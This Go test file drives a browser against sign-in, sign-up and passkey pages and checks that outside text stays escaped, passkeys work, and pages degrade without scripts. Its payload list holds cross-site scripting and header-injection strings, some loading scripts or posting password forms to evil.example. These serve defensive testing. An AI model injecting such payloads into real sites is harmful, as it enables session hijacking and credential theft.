package pages

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/cdproto/emulation"
	"github.com/chromedp/cdproto/webauthn"
	"github.com/chromedp/chromedp"

	"cognate/internal/browsertest"
)

// payloads are 200 texts that become markup, scripts, styles or addresses where
// they are not encoded for their place.
func payloads() []string {
	begins := []string{"", `"`, `'`, `>`, `">`, `'>`, "</title>", "</option></select>", `" autofocus onfocus=alert(1) x="`, "--><!-- "}
	bodies := []string{
		`<script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`,
		`javascript:alert(1)`, `JaVaScRiPt&colon;alert(1)`, "java\tscript:alert(1)", `data:text/html,<script>alert(1)</script>`, `//evil.example/x.js`,
		`<iframe src=javascript:alert(1)>`, `<base href=//evil.example/>`, `<link rel=stylesheet href=//evil.example/x.css>`, `<meta http-equiv=refresh content="0;url=//evil.example">`,
		`<style>*{background:url(//evil.example)}</style>`, `<form action=//evil.example><input name=password>`, `{{.Nonce}}${alert(1)}`,
		`<math><mi xlink:href=javascript:alert(1)>x</mi></math>`, "\u2028alert(1)//", `&lt;script&gt;alert(1)&lt;/script&gt;`, "\r\nSet-Cookie: a=b\x00",
	}
	var all []string
	for _, begin := range begins {
		for _, body := range bodies {
			all = append(all, begin+body)
		}
	}
	return all
}

// soil sets every text of a view that may come from outside.
func soil(v reflect.Value, text string) {
	switch v.Kind() { //nolint:exhaustive // no other kinds hold texts
	case reflect.Pointer:
		if !v.IsNil() {
			soil(v.Elem(), text)
		}
	case reflect.Struct:
		for i := range v.NumField() {
			switch name := v.Type().Field(i).Name; name {
			case "Style", "Version", "Path", "ClientID", "Options", "Autofill":
			case "Query":
				v.Field(i).SetString("state=" + url.QueryEscape(text) + "&login_hint=" + url.QueryEscape(text))
			default:
				soil(v.Field(i), text)
			}
		}
	case reflect.Slice:
		for i := range v.Len() {
			soil(v.Index(i), text)
		}
	case reflect.String:
		v.SetString(text)
	}
}

// intruders are what is on a page that no template of ours put there.
const intruders = `JSON.stringify([
	...[...document.querySelectorAll("script, iframe, base, style, object, embed, meta[http-equiv], math")].filter((e) => !(e.matches("script[nonce]") && new URL(e.src).origin === location.origin)),
	...[...document.querySelectorAll("*")].filter((e) => [...e.attributes].some((a) => a.name.startsWith("on") || a.name === "style")),
	...[...document.querySelectorAll("[src], link[href], form, [formaction]")].filter((e) =>
		new URL(e.getAttribute("src") || e.getAttribute("href") || e.getAttribute("formaction") || e.getAttribute("action"), location).origin !== location.origin),
	...[...document.querySelectorAll("a[href]")].filter((e) => /^(javascript|data|vbscript):/.test(e.protocol)),
].map((e) => e.outerHTML.slice(0, 200)))`

// Texts from outside stay texts: in a browser they are no element, no attribute
// and no address, and the policy of the page has nothing to refuse.
func TestS140S019TextsStayTexts(t *testing.T) {
	t.Parallel()
	tab := browsertest.Open(t, 5*time.Minute)
	complaints := watch(tab, t)
	g, base := newGallery(t, nil, nil)
	pages := everyPage(managed)
	for i, text := range payloads() {
		version, page := managed-i%2, pages[i%len(pages)]
		address := fmt.Sprintf("/%d/%s", version, page.name)
		view, ok := g.views[address]
		if !ok { // not one of the classic pages
			address = fmt.Sprintf("/%d/%s", managed, page.name)
			view = g.views[address]
		}
		soil(reflect.ValueOf(view), text)
		visit(tab, t, base+address)
		if found := evaluate[string](tab, t, intruders); found != "[]" {
			t.Errorf("%q on %s: %s", text, address, found)
		}
		if title := evaluate[string](tab, t, `document.querySelector("h1") && document.title`); title == "" {
			t.Errorf("%q on %s: the page is not whole", text, address)
		}
	}
	for _, text := range complaints() {
		t.Errorf("the browser says: %s", text)
	}
}

// A passkey is made and used by the page's own script, under its policy; when
// the device refuses, the page says so and offers another try.
func TestPasskeysOnPages(t *testing.T) {
	t.Parallel()
	tab := browsertest.Open(t, 2*time.Minute)
	complaints := watch(tab, t)
	g, base := newGallery(t, nil, nil)
	add := g.views["/2/passkey-add"].(*PasskeyAdd) //nolint:forcetypeassert // as the gallery made it
	get := g.views["/2/passkey-get"].(*PasskeyGet) //nolint:forcetypeassert // as the gallery made it
	get.Error = nil
	visit(tab, t, base+"/2/signed-out")
	if _, err := chromedp.Call(tab, webauthn.Enable, webauthn.EnableParams{}); err != nil {
		t.Fatal(err)
	}
	authenticator, err := chromedp.Call(tab, webauthn.AddVirtualAuthenticator, webauthn.AddVirtualAuthenticatorParams{
		Options: &webauthn.VirtualAuthenticatorOptions{
			Protocol: webauthn.AuthenticatorProtocolCtap2, Transport: webauthn.AuthenticatorTransportInternal,
			HasResidentKey: true, HasUserVerification: true, IsUserVerified: true, AutomaticPresenceSimulation: true,
		},
	})
	if err != nil {
		t.Fatal(err)
	}

	visit(tab, t, base+"/2/passkey-add")
	if err := chromedp.Do(tab, chromedp.Click(chromedp.CSS("[data-start]"))); err != nil {
		t.Fatal(err)
	}
	id := credential(tab, t, g, "attestationObject")

	add.Options = json.RawMessage(strings.Replace(publicKey, `"pubKey`, `"excludeCredentials":[{"type":"public-key","id":"`+id+`"}],"pubKey`, 1))
	visit(tab, t, base+"/2/passkey-add")
	if err := chromedp.Do(tab, chromedp.Click(chromedp.CSS("[data-start]")), chromedp.WaitVisible(chromedp.CSS("[data-known]"))); err != nil {
		t.Fatalf("a second passkey: %v", err)
	}

	get.Options = json.RawMessage(`{"challenge":"AAAA","rpId":"localhost","userVerification":"required","allowCredentials":[{"type":"public-key","id":"` + id + `"}]}`)
	visit(tab, t, base+"/2/passkey-get") // asks at once
	if got := credential(tab, t, g, "signature"); got != id {
		t.Errorf("signed with %s, want %s", got, id)
	}

	_, err = chromedp.Call(tab, webauthn.SetUserVerified, webauthn.SetUserVerifiedParams{AuthenticatorID: authenticator.AuthenticatorID})
	if err != nil {
		t.Fatal(err)
	}
	visit(tab, t, base+"/2/passkey-get")
	if err := chromedp.Do(tab, chromedp.WaitVisible(chromedp.CSS("[data-failed]")), chromedp.WaitVisible(chromedp.CSS("[data-start]:enabled"))); err != nil {
		t.Fatalf("after a refusal: %v", err)
	}
	for _, text := range complaints() {
		t.Errorf("the browser says: %s", text)
	}
}

// credential waits for a passkey that was posted and gives its id.
func credential(tab context.Context, t *testing.T, g *gallery, member string) string {
	t.Helper()
	select {
	case form := <-g.posted:
		var posted struct {
			ID       string
			Response map[string]any
		}
		if err := json.Unmarshal([]byte(form.Get("credential")), &posted); err != nil {
			t.Fatal(err)
		}
		if posted.Response[member] == nil || form.Get("_csrf") != "token" {
			t.Errorf("posted %v", form)
		}
		if err := chromedp.Do(tab, chromedp.WaitReady(chromedp.CSS("main:not(:has(form))"))); err != nil { // the next page
			t.Fatal(err)
		}
		return posted.ID
	case <-time.After(20 * time.Second):
		t.Fatal("no passkey was posted")
	}
	return ""
}

// A sign-in ends at the app, which may send the browser anywhere: the policy of
// the page with the form must not stop that.
func TestFormsMayEndAnywhere(t *testing.T) {
	t.Parallel()
	tab := browsertest.Open(t, 2*time.Minute)
	g, base := newGallery(t, nil, nil)
	home := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { _, _ = w.Write([]byte("home")) }))
	t.Cleanup(home.Close)
	app := httptest.NewServer(http.RedirectHandler(home.URL+"/start", http.StatusFound))
	t.Cleanup(app.Close)
	g.next = app.URL + "/callback?code=1"
	visit(tab, t, base+"/2/sign-in")
	err := chromedp.Do(tab,
		chromedp.SendKeys(chromedp.CSS("#username"), "ana"),
		chromedp.SendKeys(chromedp.CSS("#password"), "secret\r"),
		chromedp.WaitReady(chromedp.CSS("pre, body:not(:has(main))")),
	)
	if err != nil {
		t.Fatal(err)
	}
	if at, err := chromedp.Run(tab, chromedp.Location()); err != nil || at != home.URL+"/start" {
		t.Errorf("the browser is at %s, %v", at, err)
	}
	if form := <-g.posted; form.Get("username") != "ana" || form.Get("password") != "secret" || form.Get("_csrf") != "token" {
		t.Errorf("posted %v", form)
	}
}

// Without scripts all but passkeys works, and what needs one is not shown.
func TestPagesWorkWithoutScripts(t *testing.T) {
	t.Parallel()
	tab := browsertest.Open(t, 2*time.Minute)
	g, base := newGallery(t, nil, nil)
	visit(tab, t, base+"/2/signed-out")
	_, err := chromedp.Call(tab, emulation.SetScriptExecutionDisabled, emulation.SetScriptExecutionDisabledParams{Value: true})
	if err != nil {
		t.Fatal(err)
	}
	visit(tab, t, base+"/2/sign-up")
	shown := evaluate[int](tab, t, `[...document.querySelectorAll(".reveal, [data-caps], [data-copy]")].filter((e) => e.checkVisibility()).length`)
	if shown != 0 {
		t.Errorf("%d things are shown that cannot work", shown)
	}
	visit(tab, t, base+"/2/passkey-get")
	if text := evaluate[string](tab, t, `document.querySelector("main").innerText`); !strings.Contains(text, "JavaScript") || strings.Contains(text, "Use passkey") {
		t.Errorf("the page says %q", text)
	}
	visit(tab, t, base+"/2/code-app")
	err = chromedp.Do(tab,
		chromedp.Click(chromedp.CSS("#remember")),
		chromedp.SendKeys(chromedp.CSS("#code"), "123456\r"),
		chromedp.WaitReady(chromedp.CSS("main")),
	)
	if err != nil {
		t.Fatal(err)
	}
	if form := <-g.posted; form.Get("code") != "123456" || form.Get("remember") != "true" || form.Get("do") != DoSubmit {
		t.Errorf("posted %v", form)
	}
}

// The script ticks off the policy, shows passwords and compares them, on both
// generations of the pages.
func TestPasswordsAreHelpedAlong(t *testing.T) {
	t.Parallel()
	tab := browsertest.Open(t, 2*time.Minute)
	_, base := newGallery(t, nil, nil)
	for version, valid := range map[int]string{classic: ".passwordCheck-valid-customizable", managed: ".met"} {
		visit(tab, t, fmt.Sprintf("%s/%d/sign-up", base, version))
		met := func() string {
			return evaluate[string](tab, t, `[...document.querySelectorAll("`+valid+`")].map((e) => e.dataset.rule).join()`)
		}
		for _, step := range []struct{ typed, met string }{
			{"a", "lower"}, {"B", "upper,lower"}, {"1", "upper,lower,digit"}, {"!", "upper,lower,digit,symbol"}, {"abcd", "length,upper,lower,digit,symbol"},
		} {
			if err := chromedp.Do(tab, chromedp.SendKeys(chromedp.CSS("#password"), step.typed)); err != nil {
				t.Fatal(err)
			}
			if got := met(); got != step.met {
				t.Errorf("version %d after %q: %s, want %s", version, step.typed, got, step.met)
			}
		}
		const differs = `document.querySelector("#confirm_password").validationMessage`
		if err := chromedp.Do(tab, chromedp.SendKeys(chromedp.CSS("#confirm_password"), "aB1!abc")); err != nil {
			t.Fatal(err)
		}
		if got := evaluate[string](tab, t, differs); got != "The passwords are not the same." {
			t.Errorf("different passwords: %q", got)
		}
		if err := chromedp.Do(tab, chromedp.SendKeys(chromedp.CSS("#confirm_password"), "d"), chromedp.Click(chromedp.CSS(".reveal"))); err != nil {
			t.Fatal(err)
		}
		if got := evaluate[string](tab, t, differs+` + document.querySelector("#password").type + document.querySelector(".reveal").ariaPressed`); got != "texttrue" {
			t.Errorf("equal passwords, shown: %q", got)
		}
	}
}
